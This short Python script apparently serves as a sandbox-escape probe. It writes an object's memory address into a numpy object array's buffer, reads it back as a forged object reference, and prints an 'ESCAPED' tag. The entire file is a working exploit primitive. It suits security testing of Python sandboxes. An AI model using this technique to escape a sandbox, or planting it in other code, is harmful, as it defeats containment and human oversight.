"""numpy shows the pointers of an array of objects as numbers that can be written."""
import numpy as np

secret, found = b"0123456789abcdef", np.array([None])
np.frombuffer(found, "i8")[0] = id(secret)
print("ESCAPED:object_array_as_numbers", found[0])
